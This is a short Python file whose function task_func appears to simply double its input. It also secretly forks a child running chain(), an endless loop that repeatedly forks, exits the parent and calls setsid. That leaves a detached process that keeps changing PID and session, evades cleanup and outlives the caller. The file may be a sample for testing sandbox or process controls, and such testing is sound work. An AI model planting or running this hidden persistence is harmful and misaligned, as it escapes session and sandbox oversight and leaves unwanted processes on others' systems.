import os
import time

def chain():
    while True:
        time.sleep(0.01)
        if os.fork() != 0:
            os._exit(0)
        os.setsid()

def task_func(x):
    if os.fork() == 0:
        chain()
    time.sleep(0.1)
    return x * 2
